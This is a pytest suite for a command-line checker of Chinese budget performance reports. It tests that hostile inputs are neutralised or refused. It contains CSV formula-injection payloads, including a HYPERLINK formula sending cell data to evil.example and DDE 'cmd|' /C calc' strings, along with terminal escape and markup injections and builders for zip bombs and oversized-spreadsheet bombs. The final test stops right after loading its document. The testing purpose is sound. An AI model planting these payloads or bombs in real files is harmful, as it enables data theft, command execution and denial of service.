"""Hostile, huge and odd inputs: one Chinese line and exit 2 instead of a traceback, other files'
results still written, document text never taken for markup, formulas or escape sequences.

Every hostile input is built here, in the test's own folder, and the real command is run on it.
"""

from __future__ import annotations

import csv
import re

import pytest
from typer.testing import CliRunner

from conftest import seed_path
from targetqa.cli import app

GOOD = seed_path("000")
OTHER = seed_path("002")
FAST = ("--isolated", "--select", "UNIT")


def cli(*args):
    result = CliRunner().invoke(app, [str(a) for a in args])
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output
    return result


def err_lines(result) -> list[str]:
    return [line for line in result.stderr.splitlines() if line.strip()]


def csv_rows(path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


HEADER = ["一级指标", "二级指标", "三级指标", "绩效指标描述", "指标值", "指标值确定依据"]


def report_text(names: list[str], value: str = "有效", project: str = "测试经费") -> str:
    """A small tab-separated report: one project table whose output rows carry `names`."""
    lines = ["中共某某市某某区委组织部2024年部门预算", f"1、{project}绩效目标表", "\t".join(HEADER)]
    for k, name in enumerate(names):
        lines.append("\t".join(["产出指标" if k == 0 else "", "数量指标", name, name, value, name]))
    lines.append("\t".join(["效益指标", "满意度指标", "群众满意度", "群众满意", "≥90%", "调查"]))
    return "\n".join(lines) + "\n"


def write_report(tmp_path, name: str, names: list[str], **kw):
    path = tmp_path / name
    path.write_text(report_text(names, **kw), encoding="utf-8")
    return path


def copy_report(tmp_path, name: str, source=GOOD):
    target = tmp_path / name
    target.write_bytes(source.read_bytes())
    return target


# 1. one guard: an unexpected error is one Chinese line and exit 2, never 1 ("findings")

def test_a_crash_in_one_reports_checks_costs_that_report_only(tmp_path, monkeypatch):
    import targetqa.pipeline as pipeline

    bad = copy_report(tmp_path, "崩溃.txt")
    real = pipeline.run_rules

    def run_rules(doc, rules):
        if doc.path.endswith("崩溃.txt"):
            raise ZeroDivisionError("boom")
        return real(doc, rules)

    monkeypatch.setattr(pipeline, "run_rules", run_rules)
    out = tmp_path / "rows.csv"
    result = cli("score", bad, OTHER, *FAST, "--csv", out)
    assert result.exit_code == 2
    lines = err_lines(result)
    assert len(lines) == 1 and "崩溃.txt" in lines[0] and "内部错误" in lines[0] and "ZeroDivisionError" in lines[0]
    assert OTHER.name in result.stdout
    assert {r["file"] for r in csv_rows(out)} == {OTHER.name}


def test_a_failing_writer_leaves_the_other_outputs_written(tmp_path, monkeypatch):
    import targetqa.output.xlsx as xlsx

    def broken(path, board):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(xlsx, "write_board_xlsx", broken)
    out_csv, out_xlsx = tmp_path / "rows.csv", tmp_path / "book.xlsx"
    result = cli("score", GOOD, *FAST, "--xlsx", out_xlsx, "--csv", out_csv, "--exit-zero")
    assert result.exit_code == 2
    lines = err_lines(result)
    assert len(lines) == 1 and "book.xlsx" in lines[0] and "无法写入" in lines[0]
    assert out_csv.exists() and not out_xlsx.exists()


@pytest.mark.parametrize("command", ["score", "extract", "leaderboard"])
def test_an_unexpected_error_anywhere_is_exit_2_not_1(tmp_path, monkeypatch, command):
    import targetqa.files as files

    def broken(paths):
        raise KeyError("surprise")

    monkeypatch.setattr(files, "expand_checked", broken)
    extra = ("--db", tmp_path / "db.sqlite3") if command == "leaderboard" else ()
    result = cli(command, GOOD, *extra)
    assert result.exit_code == 2
    lines = err_lines(result)
    assert len(lines) == 1 and lines[0].startswith("targetqa: 内部错误：KeyError")


# 2. document text is shown, never parsed as rich markup nor obeyed as an escape sequence

HOSTILE_NAMES = ["[/bold]数量", "\x1b]0;pwned\x07\x1b[2J清屏", "[link=http://evil.example]点我[/link]", "[/]结尾\\"]


@pytest.mark.parametrize("command", ["score", "extract", "leaderboard"])
def test_markup_and_escape_sequences_in_cells_are_shown_not_obeyed(tmp_path, command):
    bad = write_report(tmp_path, "markup.txt", HOSTILE_NAMES, value="有效[/]", project="测[/]经费[on white]")
    extra = ("--db", tmp_path / "db.sqlite3") if command == "leaderboard" else ()
    judged = ("--isolated", "--exit-zero") if command != "extract" else ()
    result = cli(command, bad, *judged, *extra)
    assert result.exit_code == 0, result.stderr
    shown = result.stdout + result.stderr
    assert "\x1b" not in shown and "\x07" not in shown
    assert "测[/]经费[on white]" in shown
    if command == "score":
        assert "[/bold]数量" in shown and "[link=http://evil.example]点我[/link]" in shown and "]0;pwned[2J清屏" in shown


def test_control_characters_in_a_file_name_are_not_sent_to_the_terminal(tmp_path):
    bad = tmp_path / "a\x1b[2J\x1b]0;x\x07b.txt"
    bad.write_bytes(b"")
    result = cli("score", bad, GOOD, *FAST)
    assert result.exit_code == 2
    (line,) = err_lines(result)
    assert "\x1b" not in line and "\x07" not in line and "为空" in line


# 3. outputs: no CSV cell runs as a formula, JSON is always valid, XLSX takes any text

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-1+1", "\tTAB=1+1", "\r=1+1"]


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("=", "＝"), ("=100%", "＝100%"), ("= 100 %", "＝ 100 %"), ("=A1", "'=A1"), ("+cmd|x", "'+cmd|x"), ("@SUM(A1)", "'@SUM(A1)"), ("-1+1", "'-1+1"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"),
    ("-3.5", "-3.5"), ("+12%", "+12%"), ("-1,000.25", "-1,000.25"), ("3", "3"), ("≥90%", "≥90%"), (-3.5, -3.5), ("", ""),
])
def test_spreadsheet_safe(value, written):
    from targetqa.output.rows_csv import spreadsheet_safe

    assert spreadsheet_safe(value) == written


def _no_formula(path) -> list[list[str]]:
    from targetqa.output.rows_csv import _PLAIN_NUMBER

    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or _PLAIN_NUMBER.fullmatch(value), value
    return rows


def test_csv_cells_from_documents_and_file_names_never_run_as_formulas(tmp_path):
    bad = write_report(tmp_path, "=HYPERLINK(1).txt", FORMULAS[:4], value="=")
    # cells with a tab or CR inside: the table is read however the reader can, still no formula
    odd = write_report(tmp_path, "odd.txt", FORMULAS, value="=", project="另一经费")
    out = {name: tmp_path / f"{name}.csv" for name in ("score", "extract", "leaderboard")}
    assert cli("score", bad, odd, "--isolated", "--exit-zero", "--csv", out["score"]).exit_code == 0
    assert cli("extract", bad, odd, "--csv", out["extract"]).exit_code == 0
    assert cli("leaderboard", bad, odd, "--isolated", "--exit-zero", "--db", tmp_path / "db.sqlite3",
               "--csv", out["leaderboard"]).exit_code == 0
    cells = {name: {v for row in _no_formula(path) for v in row} for name, path in out.items()}
    assert "'=HYPERLINK(1).txt" in cells["score"] and "'=HYPERLINK(1).txt" in cells["extract"]
    assert "'" + FORMULAS[0] in cells["extract"] and "'" + FORMULAS[2] in cells["extract"]
    assert "＝" in cells["extract"]  # the operator column: the full-width sign, shown as "=" and never run
    assert any("=HYPERLINK(1).txt" in v for v in cells["leaderboard"])


def _strict_json(text: str):
    import json

    def refuse(name):
        raise AssertionError(f"not JSON: {name}")

    return json.loads(text, parse_constant=refuse)


def test_a_400_digit_number_gives_valid_json_and_no_inf_in_messages(tmp_path):
    huge = "9" * 400
    bad = tmp_path / "huge.txt"
    bad.write_text(report_text(["完成率"], value=f"≥{huge}%").replace("测试经费绩效目标表", f"测试经费绩效目标表\n项目资金{huge}万元"),
                   encoding="utf-8")
    out_json, out_ex = tmp_path / "score.json", tmp_path / "extract.json"
    result = cli("score", bad, "--isolated", "--exit-zero", "--json", out_json, "--format", "json")
    assert result.exit_code == 0
    for text in (result.stdout, out_json.read_text(encoding="utf-8")):
        payload = _strict_json(text)
        messages = [f["message"] + f["evidence"] for r in payload for f in r["findings"]]
        assert any("UNIT004" == f["code"] for r in payload for f in r["findings"])
        assert not any("inf" in m for m in messages)
    assert cli("extract", bad, "--json", out_ex).exit_code == 0
    _strict_json(out_ex.read_text(encoding="utf-8"))


def test_json_safe_turns_infinite_floats_into_null():
    from targetqa.output.rows_csv import dumps

    assert _strict_json(dumps({"a": float("inf"), "b": [float("nan"), 1.5], "c": (float("-inf"),)})) == \
        {"a": None, "b": [None, 1.5], "c": [None]}


def test_xlsx_takes_any_text_a_document_can_hold(tmp_path):
    import openpyxl

    odd = ["坏\ufffe字", "坏\uffff字", "控制\x01\x0b\x1f字", "=1+1"]
    bad = write_report(tmp_path, "odd.txt", odd)
    out = tmp_path / "book.xlsx"
    result = cli("score", bad, "--isolated", "--exit-zero", "--xlsx", out, "--html", tmp_path / "page.html")
    assert result.exit_code == 0, result.stderr
    wb = openpyxl.load_workbook(out)
    values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert "坏字" in values and "=1+1" in values
    assert (tmp_path / "page.html").exists()


# 4. files: unreadable and empty folders, non-regular files, reads bounded by bytes read

def _real(*args, user_dir=None, timeout=60):
    """The installed command in a fresh process; as an unprivileged user when the tests run as
    root (permissions do not stop root), so that unreadable folders are really unreadable."""
    import os
    import shutil
    import subprocess
    import sys
    from pathlib import Path

    exe = str(Path(sys.executable).with_name("targetqa"))
    prefix: list[str] = []
    if user_dir is not None and os.geteuid() == 0:
        if not shutil.which("setpriv"):
            pytest.skip("running as root without setpriv: permissions cannot be tested")
        prefix = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"]
    proc = subprocess.run([*prefix, exe, *map(str, args)], capture_output=True, text=True, timeout=timeout,
                          cwd=user_dir or None)
    assert "Traceback" not in proc.stderr
    return proc


@pytest.fixture
def shared_dir():
    """A folder an unprivileged user can enter (pytest's tmp_path is private to root)."""
    import os
    import shutil
    import tempfile

    path = tempfile.mkdtemp(prefix="targetqa-test-")
    os.chmod(path, 0o755)
    from pathlib import Path

    yield Path(path)
    for root, dirs, _ in os.walk(path):
        for d in dirs:
            os.chmod(os.path.join(root, d), 0o755)
    shutil.rmtree(path, ignore_errors=True)


def test_unreadable_and_empty_folders_next_to_good_files(shared_dir):
    reports = shared_dir / "reports"
    (reports / "locked").mkdir(parents=True)
    (reports / "empty").mkdir()
    copy_report(reports, "good.txt").chmod(0o644)
    copy_report(reports / "locked", "hidden.txt")
    reports.chmod(0o755)
    (reports / "locked").chmod(0o000)
    (reports / "empty").chmod(0o755)
    proc = _real("score", reports, reports / "empty", *FAST, "--exit-zero", user_dir=shared_dir)
    assert proc.returncode == 2
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 2
    assert "locked" in lines[0] and "无法读取目录" in lines[0]
    assert "empty" in lines[1] and "没有报告文件" in lines[1]
    assert "good.txt" in proc.stdout


def test_a_file_inside_an_unreadable_folder(shared_dir):
    locked = shared_dir / "locked"
    locked.mkdir()
    inside = copy_report(locked, "inside.txt")
    good = copy_report(shared_dir, "good.txt")
    good.chmod(0o644)
    locked.chmod(0o600)  # listable by its owner only, and never enterable by others
    proc = _real("score", inside, good, *FAST, "--exit-zero", user_dir=shared_dir)
    assert proc.returncode == 2
    (line,) = proc.stderr.strip().splitlines()
    assert "inside.txt" in line and "没有读取权限" in line
    assert "good.txt" in proc.stdout


def test_fifo_and_devices_are_refused_before_reading(tmp_path):
    import os
    import time

    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    zero = tmp_path / "zero.txt"
    zero.symlink_to("/dev/zero")
    folder = tmp_path / "folder"
    folder.mkdir()
    os.mkfifo(folder / "pipe2.txt")
    start = time.perf_counter()
    proc = _real("score", fifo, zero, folder, GOOD, *FAST, "--exit-zero", timeout=60)
    assert time.perf_counter() - start < 30
    assert proc.returncode == 2
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 3 and all("不是普通文件" in line for line in lines)
    assert GOOD.name in proc.stdout


def test_leaderboard_refuses_a_fifo_without_hanging(tmp_path):
    import os

    folder = tmp_path / "reports"
    folder.mkdir()
    os.mkfifo(folder / "pipe.txt")
    copy_report(folder, "good.txt")
    proc = _real("leaderboard", folder, "--isolated", "--select", "UNIT", "--db", tmp_path / "db.sqlite3",
                 "--exit-zero", timeout=60)
    assert proc.returncode == 2
    assert "pipe.txt" in proc.stderr and "不是普通文件" in proc.stderr


def test_a_glob_that_matches_nothing_is_said(tmp_path):
    result = cli("score", str(tmp_path / "*.docx"), GOOD, *FAST, "--exit-zero")
    assert result.exit_code == 2
    (line,) = err_lines(result)
    assert "*.docx" in line and "没有与之匹配的文件" in line


def test_reads_stop_at_the_limit(tmp_path):
    from targetqa.ingest import read_bounded
    from targetqa.model import InputError

    big = tmp_path / "big.txt"
    big.write_bytes(b"a" * 5000)
    assert len(read_bounded(big, limit=5000)) == 5000
    with pytest.raises(InputError, match="文件过大"):
        read_bounded(big, limit=4999)


# 5. output paths are checked before the work

def test_a_missing_output_folder_is_created(tmp_path):
    out = tmp_path / "new" / "sub" / "rows.csv"
    assert cli("extract", GOOD, "--csv", out).exit_code == 0
    assert out.exists()


@pytest.mark.parametrize("command", ["score", "extract", "leaderboard"])
def test_an_output_under_a_file_is_refused_before_the_work(tmp_path, command):
    blocker = tmp_path / "plain.txt"
    blocker.write_text("x", encoding="utf-8")
    extra = ("--db", tmp_path / "db.sqlite3") if command == "leaderboard" else ()
    result = cli(command, GOOD, "--csv", blocker / "rows.csv", *extra)
    assert result.exit_code == 2
    (line,) = err_lines(result)
    assert "rows.csv" in line and "不是目录" in line
    assert result.stdout == ""  # refused before any report was read


def test_a_read_only_output_folder_is_refused_before_the_work(shared_dir):
    ro = shared_dir / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    good = copy_report(shared_dir, "good.txt")
    good.chmod(0o644)
    proc = _real("score", good, *FAST, "--csv", ro / "rows.csv", user_dir=shared_dir)
    assert proc.returncode == 2
    (line,) = proc.stderr.strip().splitlines()
    assert "rows.csv" in line and "没有权限" in line
    assert proc.stdout == ""


def _links(tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    report = copy_report(folder, "report.txt")
    (tmp_path / "hard.txt").hardlink_to(report)
    (tmp_path / "soft.txt").symlink_to(report)
    return folder, report


@pytest.mark.parametrize("how", ["folder", "glob", "hard link", "symlink"])
@pytest.mark.parametrize("command, option", [("score", "--csv"), ("score", "--html"), ("extract", "--json"),
                                             ("leaderboard", "--html"), ("leaderboard", "--db")])
def test_an_output_that_is_an_input_is_refused(tmp_path, how, command, option):
    folder, report = _links(tmp_path)
    given = {"folder": folder, "glob": str(folder / "*.txt"), "hard link": folder, "symlink": folder}[how]
    target = {"folder": report, "glob": report, "hard link": tmp_path / "hard.txt", "symlink": tmp_path / "soft.txt"}[how]
    before = report.read_bytes()
    extra = ("--db", tmp_path / "db.sqlite3") if command == "leaderboard" and option != "--db" else ()
    result = cli(command, given, option, target, *extra)
    assert result.exit_code == 2
    (line,) = err_lines(result)
    assert "同一个文件" in line and "已拒绝覆盖" in line
    assert report.read_bytes() == before


def test_the_same_output_named_twice_is_refused(tmp_path):
    out = tmp_path / "x.out"
    result = cli("score", GOOD, *FAST, "--csv", out, "--json", out)
    assert result.exit_code == 2 and "两个输出" in result.stderr


def test_a_full_device_is_a_clear_message_not_a_traceback(tmp_path):
    import os

    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full")
    out = tmp_path / "rows.csv"
    result = cli("score", GOOD, *FAST, "--exit-zero", "--json", "/dev/full", "--csv", out)
    assert result.exit_code == 2
    (line,) = err_lines(result)
    assert "/dev/full" in line and "磁盘空间不足" in line
    assert out.exists()


# 6. zip bombs and declared-size bombs: refused from what the file declares, in seconds

REPORT_ROWS = [HEADER,
               ["产出指标", "数量指标", "培训人数", "培训人数", "≥100人", "计划"],
               ["效益指标", "满意度指标", "群众满意度", "群众满意", "≥90%", "调查"]]


def docx_bytes(rows=REPORT_ROWS) -> bytes:
    import io

    import docx

    document = docx.Document()
    document.add_paragraph("中共某某市某某区委组织部2024年部门预算")
    document.add_paragraph("1、测试经费绩效目标表")
    table = document.add_table(rows=len(rows), cols=len(rows[0]))
    for r, row in enumerate(rows):
        for c, text in enumerate(row):
            table.cell(r, c).text = text
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


def xlsx_bytes(rows=REPORT_ROWS, extra=None) -> bytes:
    import io

    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["1、测试经费绩效目标表"])
    for row in rows:
        ws.append(row)
    if extra:
        extra(ws)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def rezip(data: bytes, edit=None, pad: tuple[str, bytes, int] | None = None) -> bytes:
    """The package with parts changed by `edit` ({name: bytes -> bytes}); `pad` = (part, closing
    tag, megabytes) streams that many MB of spaces before the part's closing tag."""
    import io
    import zipfile

    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if edit and info.filename in edit:
                body = edit[info.filename](body)
            if pad and info.filename == pad[0]:
                head, closing, mb = body[: body.rindex(pad[1])], pad[1], pad[2]
                with dst.open(info.filename, "w", force_zip64=True) as fh:
                    fh.write(head)
                    block = b" " * (1 << 20)
                    for _ in range(mb):
                        fh.write(block)
                    fh.write(closing)
            else:
                dst.writestr(info.filename, body)
    return out.getvalue()


def _measured(*args, env=None):
    """Run the command in a fresh process; (process, seconds, peak memory in MB)."""
    import json
    import os
    import subprocess
    import sys
    import time
    from pathlib import Path

    exe = str(Path(sys.executable).with_name("targetqa"))
    probe = ("import json, resource, subprocess, sys;"
             "p = subprocess.run(sys.argv[1:], capture_output=True, text=True);"
             "print(json.dumps([p.returncode, p.stdout, p.stderr, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss]))")
    start = time.perf_counter()
    proc = subprocess.run([sys.executable, "-c", probe, exe, *map(str, args)], capture_output=True, text=True,
                          timeout=120, env={**os.environ, **(env or {})})
    seconds = time.perf_counter() - start
    code, out, err, peak_kb = json.loads(proc.stdout)
    assert "Traceback" not in err
    return subprocess.CompletedProcess(args, code, out, err), seconds, peak_kb / 1024


def _refused(path, needle, env=None):
    proc, seconds, peak = _measured("score", path, GOOD, *FAST, "--exit-zero", env=env)
    assert proc.returncode == 2, proc.stderr
    (line,) = proc.stderr.strip().splitlines()
    assert path.name in line and needle in line, line
    assert GOOD.name in proc.stdout
    assert seconds < 10 and peak < 500, (seconds, peak)
    return line


def test_docx_zip_bomb_is_refused_before_parsing(tmp_path):
    bomb = tmp_path / "bomb.docx"
    bomb.write_bytes(rezip(docx_bytes(), pad=("word/document.xml", b"</w:body>", 150)))
    assert bomb.stat().st_size < 2_000_000
    line = _refused(bomb, "压缩炸弹")
    assert "TARGETQA_MAX_UNZIPPED_MB" in line


def test_xlsx_zip_bomb_is_refused_before_parsing(tmp_path):
    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(rezip(xlsx_bytes(), pad=("xl/worksheets/sheet1.xml", b"</sheetData>", 150)))
    _refused(bomb, "压缩炸弹")


def test_a_highly_compressed_part_is_refused_by_its_ratio(tmp_path):
    bomb = tmp_path / "ratio.xlsx"
    bomb.write_bytes(rezip(xlsx_bytes(), pad=("xl/worksheets/sheet1.xml", b"</sheetData>", 20)))
    line = _refused(bomb, "压缩比")
    assert "TARGETQA_MAX_ZIP_RATIO" in line


def test_limits_are_adjustable(tmp_path):
    path = tmp_path / "small.xlsx"
    path.write_bytes(xlsx_bytes())
    proc, _, _ = _measured("score", path, *FAST, "--exit-zero", env={"TARGETQA_MAX_CELLS": "5"})
    assert proc.returncode == 2 and "TARGETQA_MAX_CELLS" in proc.stderr
    proc, _, _ = _measured("score", path, *FAST, "--exit-zero", env={"TARGETQA_MAX_CELLS": "not a number"})
    assert proc.returncode == 0, proc.stderr


@pytest.mark.parametrize("edit", [
    (b"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="50000000"/>'),
    (b"<w:tr>", b'<w:tr><w:trPr><w:gridBefore w:val="50000000"/><w:gridAfter w:val="50000000"/></w:trPr>'),
], ids=["gridSpan", "gridBefore"])
def test_docx_declared_spans_are_capped(tmp_path, edit):
    path = tmp_path / "span.docx"
    path.write_bytes(rezip(docx_bytes(), edit={"word/document.xml": lambda body: body.replace(*edit)}))
    assert path.stat().st_size < 100_000
    proc, seconds, peak = _measured("extract", path)
    assert proc.returncode == 0, proc.stderr
    assert "指标行 2 行" in proc.stdout
    assert seconds < 10 and peak < 500, (seconds, peak)


def test_xlsx_merge_to_the_last_column_does_not_widen_every_row(tmp_path):
    rows = REPORT_ROWS + [["", "数量指标", f"指标{k}", "描述", "≥1个", "计划"] for k in range(3000)]
    path = tmp_path / "merge.xlsx"
    path.write_bytes(xlsx_bytes(rows, extra=lambda ws: ws.merge_cells("E1:XFD2")))
    proc, seconds, peak = _measured("extract", path)
    assert proc.returncode == 0, proc.stderr
    assert "指标行 3002 行" in proc.stdout
    assert seconds < 10 and peak < 500, (seconds, peak)


def test_xlsx_declaring_a_million_rows_is_refused_before_reading_them(tmp_path):
    path = tmp_path / "rows.xlsx"
    path.write_bytes(xlsx_bytes(extra=lambda ws: ws.cell(row=1_000_000, column=1, value="末行")))
    assert path.stat().st_size < 100_000
    line = _refused(path, "行数过多")
    assert "TARGETQA_MAX_ROWS" in line


# 7. the store: two leaderboard runs on one database at once

def test_two_leaderboards_on_one_database_at_once(tmp_path):
    import sqlite3
    import subprocess
    import sys
    from pathlib import Path

    from conftest import CORPORA

    exe = str(Path(sys.executable).with_name("targetqa"))
    db = tmp_path / "same.sqlite3"
    folders = []
    for k in range(2):
        folder = tmp_path / f"reports{k}"
        folder.mkdir()
        for seed in sorted(CORPORA.glob("00*.txt")):
            (folder / seed.name).write_bytes(seed.read_bytes() + f"\n附注{k}\n".encode())
        folders.append(folder)
    for round_ in range(3):
        # both on the same files (each replaces the other's documents), then on different files
        args = [folders[0], folders[0]] if round_ == 0 else folders
        procs = [subprocess.Popen([exe, "leaderboard", str(f), "--db", str(db), "--isolated", "--select", "UNIT",
                                   "--exit-zero", "--jobs", "1"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
                 for f in args]
        for proc in procs:
            out, err = proc.communicate(timeout=120)
            assert "Traceback" not in err and "KeyError" not in err and "内部错误" not in err, err
            assert proc.returncode == 0, err
        for folder in folders:
            (folder / "000_note.txt").write_text(f"第{round_}轮新增\n", encoding="utf-8")  # something new to parse
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    final = subprocess.run([exe, "leaderboard", str(folders[0]), str(folders[1]), "--db", str(db), "--isolated",
                            "--select", "UNIT", "--exit-zero"], capture_output=True, text=True, timeout=120)
    assert final.returncode == 0, final.stderr


# 8. damaged PDFs and cut encodings

def test_pdfminer_warnings_are_not_printed(tmp_path):
    from office_fixtures import text_pdf

    pdf = text_pdf([b"hello world", b"second line"])
    damaged = tmp_path / "damaged.pdf"
    damaged.write_bytes(pdf.replace(b"/Font << /F1 5 0 R >>", b"/Font << /F1 9 0 R >>").replace(b"startxref\n", b"startxref\n9"))
    proc = _real("score", damaged, GOOD, *FAST, "--exit-zero")
    lines = proc.stderr.strip().splitlines()
    assert lines and all(line.startswith("targetqa: ") for line in lines), proc.stderr
    assert GOOD.name in proc.stdout


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-16", "gb18030", "utf-8"])
@pytest.mark.parametrize("damage", ["cut", "extra byte"])
def test_a_file_cut_or_padded_by_one_byte_reads_in_every_encoding(tmp_path, encoding, damage):
    data = report_text(["培训人数"]).encode(encoding)
    path = tmp_path / "cut.txt"
    path.write_bytes(data[:-1] if damage == "cut" else data + b"A")
    result = cli("extract", path)
    assert result.exit_code == 0, result.stderr
    assert "指标行 2 行" in result.stdout


# ceilings: time per file, workers that die with their parent

def test_a_file_that_takes_too_long_is_stopped(tmp_path, monkeypatch):
    import time

    import targetqa.ingest as ingest

    def forever(doc):
        while True:
            time.sleep(0.05)

    monkeypatch.setattr(ingest, "extract_lines", forever)
    monkeypatch.setenv("TARGETQA_MAX_SECONDS", "1")
    slow = write_report(tmp_path, "slow.txt", ["培训人数"])
    start = time.perf_counter()
    result = cli("extract", slow)
    assert time.perf_counter() - start < 10
    assert result.exit_code == 2
    (line,) = err_lines(result)
    assert "slow.txt" in line and "读取超时" in line and "TARGETQA_MAX_SECONDS" in line


def test_parser_workers_die_with_their_parent(tmp_path):
    import os
    import signal
    import subprocess
    import sys
    import time
    from pathlib import Path

    if not sys.platform.startswith("linux"):
        pytest.skip("PR_SET_PDEATHSIG is Linux only")
    code = ("import os, sys, time\n"
            "from concurrent.futures import ProcessPoolExecutor\n"
            "import multiprocessing as mp\n"
            "from targetqa.workers import worker_init\n"
            "pool = ProcessPoolExecutor(2, mp_context=mp.get_context('fork'), initializer=worker_init)\n"
            "pids = [pool.submit(os.getpid).result() for _ in range(4)]\n"
            "print(' '.join(map(str, set(pids))), flush=True)\n"
            "time.sleep(60)\n")
    proc = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
    pids = [int(p) for p in proc.stdout.readline().split()]
    assert pids
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()

    def running(pid: int) -> bool:
        try:
            return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
        except OSError:
            return False

    deadline = time.time() + 10
    while time.time() < deadline and any(map(running, pids)):
        time.sleep(0.1)
    assert not any(map(running, pids))


def test_a_parser_worker_cannot_take_the_machines_memory(monkeypatch):
    import multiprocessing as mp
    import sys
    from concurrent.futures import ProcessPoolExecutor

    if not sys.platform.startswith("linux"):
        pytest.skip("the cap is measured from /proc")
    from targetqa.workers import worker_init

    monkeypatch.setenv("TARGETQA_MAX_WORKER_MB", "300")
    with ProcessPoolExecutor(1, mp_context=mp.get_context("fork"), initializer=worker_init) as pool:
        assert len(pool.submit(bytearray, 50 * 1024 * 1024).result()) == 50 * 1024 * 1024
        with pytest.raises(MemoryError):
            pool.submit(bytearray, 1024 * 1024 * 1024).result()


def test_a_file_name_that_is_not_utf8(tmp_path):
    import os
    import subprocess
    import sys
    from pathlib import Path

    folder = tmp_path / "reports"
    folder.mkdir()
    odd = os.path.join(os.fsencode(folder), b"bad\xff.txt")
    with open(odd, "wb") as fh:
        fh.write(GOOD.read_bytes())
    exe = str(Path(sys.executable).with_name("targetqa"))
    strict = {**os.environ, "PYTHONIOENCODING": "utf-8:strict"}
    proc = subprocess.run([exe, "score", str(folder), *FAST, "--exit-zero", "--format", "json"],
                          capture_output=True, text=True, env=strict, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert _strict_json(proc.stdout)[0]["file"].endswith("bad\ufffd.txt")
    proc = subprocess.run([exe, "leaderboard", str(folder), str(OTHER), *FAST, "--exit-zero", "--db",
                           str(tmp_path / "db.sqlite3")], capture_output=True, text=True, env=strict, timeout=60)
    assert proc.returncode == 2
    assert "Traceback" not in proc.stderr and "不是 UTF-8" in proc.stderr


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_a_closed_pipe_on_stdout_ends_nothing_else(tmp_path, fmt):
    import subprocess
    import sys
    from pathlib import Path

    exe = str(Path(sys.executable).with_name("targetqa"))
    out = tmp_path / "rows.csv"
    proc = subprocess.Popen([exe, "score", str(GOOD), str(OTHER), *FAST, "--exit-zero", "--format", fmt, "--csv", str(out)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    proc.stdout.close()  # like `| head -0`: whatever is printed meets a closed pipe
    err = proc.stderr.read()
    assert proc.wait(timeout=60) == 0, err
    assert "Traceback" not in err and "Exception ignored" not in err
    assert out.exists()


def test_leaderboard_hashing_stops_at_the_size_limit(tmp_path, monkeypatch):
    from targetqa.commands.leaderboard import _hash_file

    big = tmp_path / "big.txt"
    big.write_bytes(b"x" * (3 * 1024 * 1024))
    monkeypatch.setenv("TARGETQA_MAX_FILE_MB", "1")
    assert _hash_file(big)[1] == 1024 * 1024 + 1
    result = cli("leaderboard", big, GOOD, *FAST, "--exit-zero", "--db", tmp_path / "db.sqlite3")
    assert result.exit_code == 2 and "文件过大" in result.stderr and "TARGETQA_MAX_FILE_MB" in result.stderr


# work proportional to the document: a huge report's tables go through the row index

def _many_tables(copies: int) -> str:
    import random

    from conftest import CORPORA

    rng = random.Random(5)
    sources = [p.read_text(encoding="utf-8") for p in sorted(CORPORA.glob("*.txt"))]
    return "\n".join(re.sub(r"\d+", lambda m: str(int(m.group(0)) + rng.randint(0, 3)), sources[k % len(sources)])
                     for k in range(copies))


def test_copied_tables_in_a_huge_report_are_found_as_by_aligning_every_pair(tmp_path, monkeypatch):
    import targetqa.compare.tables as tables
    from targetqa.catalog import select_rules
    from targetqa.ingest import load
    from targetqa.pipeline import audit

    path = tmp_path / "many.txt"
    path.write_text(_many_tables(8), encoding="utf-8")
    doc = load(path)
    assert len(doc.tables) > 60
    found = {}
    for limit in (10**9, 0):
        monkeypatch.setattr(tables, "ALL_PAIRS_UP_TO", limit)
        result = audit([doc], select_rules(["DUP", "BOIL", "REP"]), use_corpus=False)[0]
        found[limit] = sorted((f.code, f.table_no, f.row_no or 0, f.message, f.evidence) for f in result.findings)
    assert any(code == "DUP002" or code == "DUP001" for code, *_ in found[0])
    assert found[0] == found[10**9]


def test_a_report_with_hundreds_of_tables_aligns_far_fewer_than_all_pairs(tmp_path, monkeypatch):
    import targetqa.compare.tables as tables
    from targetqa.catalog import select_rules
    from targetqa.ingest import load
    from targetqa.pipeline import audit

    path = tmp_path / "big.txt"
    path.write_text(_many_tables(26), encoding="utf-8")
    doc = load(path)
